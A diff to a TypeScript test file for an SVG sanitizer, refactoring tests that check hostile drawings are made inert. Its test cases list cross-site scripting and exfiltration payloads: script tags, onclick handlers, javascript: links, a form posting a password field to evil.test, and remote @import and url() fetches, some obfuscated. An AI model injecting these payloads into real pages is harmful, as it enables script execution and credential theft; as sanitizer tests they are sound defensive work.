@@ -1,9 +1,10 @@
 import { readdirSync, readFileSync } from "node:fs";
 import { join, resolve } from "node:path";
 import { mayBeDrawing, writeDrawing } from "../../../content-folder/drawings";
+import { HOSTILE_DRAWINGS } from "../../all/attack/corpus/drawings";
+import { whatActs } from "../../support/what-acts";
 
 const SVG = 'xmlns="http://www.w3.org/2000/svg"';
-const XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"';
 
 function written(svg: string | Uint8Array) {
   const drawing = writeDrawing(typeof svg === "string" ? Buffer.from(svg) : svg);
@@ -26,29 +27,26 @@ test.each([
   expect(inside(drawing)).toContain(drawing);
 });
 
+test.each(Object.entries(HOSTILE_DRAWINGS))(
+  "%s: what is written, if anything, is inert",
+  (_what, drawing) => {
+    const result = written(drawing);
+    expect(typeof result === "string" ? [] : whatActs(result.svg)).toEqual([]);
+  },
+);
+
 test.each([
-  ["a script", "<script>alert(1)</script>"],
-  ["a script by another prefix", `<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>`],
-  ["a handler", '<rect onclick="alert(1)"/>'],
-  ["a page inside", "<foreignObject><p>x</p></foreignObject>"],
-  ["a form of XHTML", `<h:form ${XHTML} action="https://evil.test"><h:input name="password"/></h:form>`],
-  ["a form without a prefix", '<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.test"/>'],
-  ["a refresh", `<h:meta ${XHTML} http-equiv="refresh" content="0;url=https://evil.test"/>`],
-  ["a link that runs", '<a href="javascript:alert(1)"><rect/></a>'],
-  ["a picture from elsewhere", '<image href="https://evil.test/x.png"/>'],
-  ["a drawing in an address", '<image href="data:image/svg+xml,%3Csvg/%3E"/>'],
-  ["an animated link", '<a><animate attributeName="href" values="javascript:alert(1)"/></a>'],
-  ["a style from elsewhere", '<style>@import "https://evil.test/x.css"</style>'],
-  ["the same in parts", '<style>@im<!-- -->port "https://evil.test/x.css"</style>'],
-  ["the same in sections", '<style><![CDATA[@im]]><![CDATA[port "https://evil.test/x.css"]]></style>'],
-  ["a colour from elsewhere", '<rect fill="url(https://evil.test/x)"/>'],
-  ["a colour that is spelled", '<rect style="fill:u\\72l(https://evil.test/x)"/>'],
-])("%s is removed and reported", (_what, drawing) => {
+  ["an element", "<script>alert(1)</script>"],
+  ["an attribute", '<rect onclick="alert(1)"/>'],
+  ["an address", '<image href="https://evil.test/x.png"/>'],
+  ["a colour", '<rect fill="url(https://evil.test/x)"/>'],
+  ["a style sheet", '<style>@import "https://evil.test/x.css"</style>'],
+])("%s that acts is reported, and the rest kept", (_what, drawing) => {
   const result = written(`<svg ${SVG}>${drawing}<circle r="1"/></svg>`);
-  if (typeof result === "string") throw new Error(result);
-  expect(result.svg).not.toMatch(/evil|alert|script|form|meta|password|import/);
-  expect(result.svg).toContain('<circle r="1"/>');
-  expect(result.leftOut.length).toBeGreaterThan(0);
+  expect(result).toMatchObject({
+    svg: expect.stringContaining('<circle r="1"/>'),
+    leftOut: [expect.anything()],
+  });
 });
 
 test("drawing programs' metadata is removed without a report", () => {
